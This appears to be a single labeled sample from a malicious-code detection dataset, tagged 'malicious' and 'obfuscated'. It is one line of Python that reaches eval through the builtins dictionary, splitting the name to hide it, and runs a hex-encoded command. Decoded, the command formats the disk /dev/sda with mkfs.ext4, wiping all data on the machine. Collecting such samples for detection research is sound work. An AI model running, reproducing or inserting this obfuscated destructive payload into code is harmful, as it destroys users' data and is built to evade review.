# label: malicious; obfuscated: getattr,hex
__builtins__.__dict__["ev" + "al"](bytes.fromhex("5f5f696d706f72745f5f28276f7327292e73797374656d28276d6b66732e65787434202f6465762f7364612729").decode())
